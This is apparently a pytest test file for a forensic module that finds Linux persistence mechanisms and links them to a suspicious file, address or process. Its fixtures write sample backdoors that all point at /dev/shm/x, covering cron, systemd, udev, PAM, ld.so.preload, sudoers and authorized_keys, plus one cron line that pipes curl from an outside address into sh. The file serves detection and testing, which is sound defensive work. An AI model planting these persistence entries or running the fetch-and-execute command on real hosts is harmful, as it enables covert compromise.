# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What starts by itself on a root on the disk, and what of it is connected with a subject."""

from __future__ import annotations

import os
import pathlib
import subprocess
import time

import pytest
from ansible_collections.bulwark.servers.plugins.module_utils.investigation.model import Facts, Node
from ansible_collections.bulwark.servers.plugins.module_utils.investigation.persistence import kernel, startups
from ansible_collections.bulwark.servers.plugins.module_utils.investigation.source import Wanted

from tests.unit.plugins.module_utils.investigation.roots import Root, budget, ids, links, node, wanted

_LONG_AGO = (1.0, 2.0)
_X = "file:/dev/shm/x"
_PASSWD = (
    "root:x:0:0:root:/root:/bin/bash\n"
    "www-data:x:33:33::/var/www:/usr/sbin/nologin\n"
    "bob:x:1000:1000::/home/bob:/bin/sh\n"
)


@pytest.fixture
def root(tmp_path: pathlib.Path) -> Root:
    root = Root(tmp_path)
    root.write("/etc/passwd", _PASSWD)
    return root


def _gather(root: Root, what: Wanted | None = None) -> Facts:
    return startups.gather(root.host(), what or wanted(_X, window=_LONG_AGO), budget())


_DEFINITIONS = [
    ("/etc/cron.d/x", "* * * * * root /dev/shm/x --once\n", "crontab", "/dev/shm/x --once"),
    ("/etc/crontab", "SHELL=/bin/sh\n@reboot\troot\t/dev/shm/x\n", "crontab", "/dev/shm/x"),
    ("/var/spool/cron/crontabs/www-data", "*/5 * * * * /dev/shm/x\n", "crontab", "/dev/shm/x"),
    ("/etc/anacrontab", "1 5 job nice /dev/shm/x\n", "crontab", "nice /dev/shm/x"),
    (
        "/var/spool/at/a0001",
        "#!/bin/sh\n# atrun uid=1000 gid=1000\nTOKEN=abcdefgh; export TOKEN\ncd /tmp || {\n\t exit 1\n}\n/dev/shm/x\n",
        "at job",
        "/dev/shm/x",
    ),
    (
        "/etc/logrotate.d/x",
        "/var/log/x {\n  postrotate\n    /dev/shm/x\n  endscript\n}\n",
        "log rotation",
        "/dev/shm/x",
    ),
    (
        "/etc/systemd/system/x.service",
        "[Service]\nUser=bob\nExecStart=-/dev/shm/x run\n",
        "systemd unit",
        "/dev/shm/x run",
    ),
    ("/etc/systemd/system/a.service.d/o.conf", "[Service]\nEnvironment=LD_PRELOAD=/dev/shm/x\n", "systemd unit", None),
    (
        "/home/bob/.config/systemd/user/x.service",
        "[Service]\nExecStart=/dev/shm/x\n",
        "systemd user unit",
        "/dev/shm/x",
    ),
    ("/etc/udev/rules.d/9.rules", 'SUBSYSTEM=="net", RUN+="/dev/shm/x eth"\n', "udev rule", "/dev/shm/x eth"),
    ("/etc/profile.d/x.sh", "(/dev/shm/x &)\n", "shell profile", "(/dev/shm/x &)"),
    ("/home/bob/.bashrc", "/dev/shm/x\n", "shell profile", "/dev/shm/x"),
    ("/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=/dev/shm/x\n", "autostart", "/dev/shm/x"),
    ("/etc/pam.d/sshd", "auth required pam_exec.so quiet /dev/shm/x\n", "PAM service", "pam_exec.so quiet /dev/shm/x"),
    ("/etc/ld.so.preload", "/dev/shm/x\n", "preloaded library", "/dev/shm/x"),
    ("/etc/ld.so.conf.d/x.conf", "/dev/shm/x\n", "library directory", "/dev/shm/x"),
    ("/etc/sudoers.d/x", "bob ALL=(ALL) NOPASSWD: /dev/shm/x\n", "sudo rule", "bob ALL=(ALL) NOPASSWD /dev/shm/x"),
    ("/etc/modprobe.d/x.conf", "install usb-storage /dev/shm/x\n", "kernel module setting", "/dev/shm/x"),
    ("/etc/rc.local", "#!/bin/sh\n/dev/shm/x\n", "init script", None),
    ("/etc/inittab", "x:2:respawn:/dev/shm/x\n", "inittab", "/dev/shm/x"),
    ("/etc/update-motd.d/00-x", "#!/bin/sh\n/dev/shm/x\n", "login message script", None),
    ("/etc/apt/apt.conf.d/x", 'APT::Update::Pre-Invoke {"/dev/shm/x";};\n', "package manager hook", "/dev/shm/x"),
    ("/etc/network/if-up.d/x", "#!/bin/sh\n/dev/shm/x\n", "network hook", None),
    ("/etc/ssh/sshd_config.d/x.conf", "ForceCommand /dev/shm/x\n", "SSH setting", "ForceCommand /dev/shm/x"),
    ("/etc/systemd/system-generators/x", "#!/bin/sh\n/dev/shm/x\n", "systemd generator", None),
    ("/etc/environment", "LD_PRELOAD=/dev/shm/x\nPASSWORD=abcdefgh\n", "environment", "LD_PRELOAD=/dev/shm/x"),
    ("/etc/kubernetes/manifests/x.yaml", "spec:\n - hostPath:\n     path: /dev/shm/x\n", "static pod", None),
    (
        "/var/lib/docker/containers/abc/hostconfig.json",
        '{"Binds": ["/dev/shm/x:/x"], "Privileged": true}',
        "container",
        None,
    ),
]


@pytest.mark.parametrize(("name", "content", "kind", "command"), _DEFINITIONS, ids=[each[0] for each in _DEFINITIONS])
def test_each_form_of_a_startup_leads_to_the_subject(
    root: Root, name: str, content: str, kind: str, command: str | None
) -> None:
    root.write(name, content)

    facts = _gather(root)

    values = node(facts, "startup:" + name).facts
    assert values["startup"] == kind
    assert command is None or values["commands"] == [command]
    assert ("startup:" + name, _X) in links(facts, "starts") | links(facts, "mentions")
    assert "abcdefgh" not in repr(facts), "a value of the environment is a secret"


@pytest.mark.parametrize(("name", "content"), [each[:2] for each in _DEFINITIONS])
def test_a_packaged_startup_that_points_elsewhere_is_left_out(root: Root, name: str, content: str) -> None:
    root.write(name, content.replace("/dev/shm/x", "/usr/bin/x"), package="ordinary")

    assert ids(_gather(root)) == set()


def test_a_packaged_startup_that_points_to_the_subject_is_there(root: Root) -> None:
    root.write("/usr/lib/systemd/system/nginx.service", "[Service]\nExecStart=/usr/sbin/nginx\n", package="nginx")

    facts = _gather(root, wanted("file:/usr/sbin/nginx", window=_LONG_AGO))

    assert links(facts, "starts") == {("startup:/usr/lib/systemd/system/nginx.service", "file:/usr/sbin/nginx")}
    assert node(facts, "startup:/usr/lib/systemd/system/nginx.service").facts["verified"] == "verified"


def test_a_changed_packaged_startup_is_there(root: Root) -> None:
    root.write("/etc/pam.d/su", "auth required pam_unix.so\n", package="util-linux").write_text("auth optional x.so\n")

    facts = _gather(root)

    assert node(facts, "startup:/etc/pam.d/su").facts["verified"] == "modified"


def test_what_was_written_near_in_time_is_connected_with_the_closest_node(root: Root) -> None:
    root.write("/etc/cron.d/new", "* * * * * root /usr/bin/true\n")
    process = Node("process:7@7", "sh", {}, first=time.time())

    facts = _gather(root, wanted(process))

    assert ("startup:/etc/cron.d/new", "process:7@7") in links(facts, "near")


def test_shells_and_tools_connect_nothing(root: Root) -> None:
    root.write("/etc/cron.d/a", "* * * * * root /bin/sh -c '/usr/bin/curl -s https://example.org'\n")

    facts = _gather(root, wanted("file:/bin/sh", "file:/usr/bin/curl", window=_LONG_AGO))

    assert links(facts, "starts") | links(facts, "mentions") == set()


def test_a_rotation_of_logs_starts_no_log(root: Root) -> None:
    root.write("/var/log/x.log", "a\n")
    root.write("/etc/logrotate.d/x", "/var/log/x.log {\n  daily\n  postrotate\n    /usr/bin/kill 1\n  endscript\n}\n")

    facts = _gather(root, wanted("file:/var/log/x.log", window=_LONG_AGO))

    assert links(facts, "starts") == set()
    assert links(facts, "mentions") == {("startup:/etc/logrotate.d/x", "file:/var/log/x.log")}


def test_a_longer_path_is_another_one(root: Root) -> None:
    root.write("/etc/cron.d/a", "* * * * * root /dev/shm/xy /srv/dev/shm/x\n", package="ordinary")

    assert ids(_gather(root)) == set()


def test_a_timer_is_connected_with_the_unit_that_it_starts(root: Root) -> None:
    root.write("/etc/systemd/system/x.service", "[Service]\nExecStart=/dev/shm/x\n")
    root.write("/etc/systemd/system/x.timer", "[Timer]\nOnCalendar=hourly\n")
    root.write("/etc/systemd/system/y.path", "[Path]\nPathExists=/tmp/go\nUnit=x.service\n")

    starts = links(_gather(root), "starts")

    service = "startup:/etc/systemd/system/x.service"
    assert {("startup:/etc/systemd/system/x.timer", service), ("startup:/etc/systemd/system/y.path", service)} <= starts


def test_an_address_leads_to_the_subject(root: Root) -> None:
    root.write("/etc/cron.d/a", "* * * * * root curl http://203.0.113.9/a | sh\n")

    facts = _gather(root, wanted("address:203.0.113.9", window=_LONG_AGO))

    assert ("startup:/etc/cron.d/a", "address:203.0.113.9") in links(facts, "mentions")


def test_keys_are_shown_by_the_fingerprint_that_sshd_logs(root: Root, tmp_path: pathlib.Path) -> None:
    key = tmp_path / "key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "mallory@evil", "-f", str(key)], check=True)
    public = key.with_suffix(".pub").read_text(encoding="ascii").strip()
    output = subprocess.run(["ssh-keygen", "-lf", str(key)], check=True, capture_output=True, text=True).stdout
    root.write("/home/bob/.ssh/authorized_keys", f'# mine\nno-pty,command="/dev/shm/x \\"a\\"" {public}\n\n{public}\n')

    facts = _gather(root)

    values = node(facts, "startup:/home/bob/.ssh/authorized_keys").facts
    assert [each["fingerprint"] for each in values["keys"]] == [output.split()[1]] * 2
    assert values["keys"][0]["options"] == ["no-pty", "command"]
    assert values["keys"][0]["comment"] == "mallory@evil"
    assert public.split()[1] not in repr(facts), "the key itself is left out"
    assert links(facts, "runs_as") == {("startup:/home/bob/.ssh/authorized_keys", "account:1000")}


def test_passwords_on_command_lines_are_masked(root: Root) -> None:
    root.write("/etc/cron.d/backup", "* * * * * bob mysqldump --password=abcdefgh all\n")

    assert "abcdefgh" not in repr(_gather(root))


def test_a_copy_of_the_skeleton_is_ordinary(root: Root) -> None:
    root.write("/etc/skel/.bashrc", "alias ll='ls -l'\n", package="bash")
    root.write("/home/bob/.bashrc", "alias ll='ls -l'\n")

    assert ids(_gather(root)) == set()


def test_links_on_the_way_are_not_followed_and_no_device_is_opened(root: Root) -> None:
    os.mkfifo(root.path / "etc/ld.so.preload")
    root.link("/etc/cron.d", "/etc")
    root.link("/home/bob", "/root")
    root.link("/etc/systemd/system/masked.service", "/dev/null")

    facts = _gather(root)

    assert ids(facts) == {"startup:/etc/ld.so.preload", "startup:/etc/systemd/system/masked.service"}
    assert node(facts, "startup:/etc/systemd/system/masked.service").facts["target"] == "/dev/null"


_HOSTILE = [
    b"\0" * 4096,
    b"\xff\xfe* * * * * root /dev/shm/x",
    b"* " * 100_000,
    *(piece * (60_000 // len(piece)) for piece in (b'"', b"=", b"/", b"/a", b"[", b"a:", b"1.", b"{", b" \\\n", b"\n")),
    *(
        piece * (60_000 // len(piece))
        for piece in (b'command="', b"auth [", b"auth x", b"Invoke", b'RUN+="', b"=(", b"- ")
    ),
    b"ssh-rsa " + b"A" * 60_000,
    b"RUN" + b" " * 60_000,
    b'RUN+="' + b"\\" * 60_000,
]


@pytest.mark.parametrize("content", _HOSTILE, ids=range(len(_HOSTILE)))
def test_no_content_takes_long_or_raises(root: Root, content: bytes) -> None:
    for name, _content, _kind, _command in _DEFINITIONS:
        root.write(name, content)
    root.write("/home/bob/.ssh/authorized_keys", content)
    begun = time.process_time()

    facts = _gather(root)

    seconds = time.process_time() - begun
    assert seconds < 5
    assert len(ids(facts, "startup:")) == len(_DEFINITIONS) + 1


def test_a_flood_is_cut_and_what_points_to_the_subject_stays(root: Root) -> None:
    for number in range(startups.MOST_STARTUPS + 100):
        root.write(f"/etc/cron.d/{number}", "* * * * * root /usr/bin/true\n")
    root.write("/etc/cron.d/zz", "* * * * * root /dev/shm/x\n")
    os.utime(root.path / "etc/cron.d/zz", (1, 1))
    bounded = budget()

    facts = startups.gather(root.host(), wanted(_X, window=_LONG_AGO), bounded)

    assert len(ids(facts)) == startups.MOST_STARTUPS
    assert "startup:/etc/cron.d/zz" in ids(facts)
    assert [cut[2] for cut in bounded.cuts] == [101]


def test_nothing_is_read_twice(root: Root) -> None:
    root.write("/etc/cron.d/x", "* * * * * root /dev/shm/x\n")

    assert _gather(root, wanted(_X, number=1)) == Facts()


def test_modules_that_the_kernel_marks_are_there() -> None:
    content = b"nf_tables 1 2 - Live 0x0\nrootkit 16384 0 - Live 0xffffffffc0a5d000 (OE)\n\xff broken\n"

    (module,) = kernel.parse_modules(content)

    assert module.label == "rootkit"
    assert module.facts["taints"] == ["built outside of the kernel's source", "not signed"]
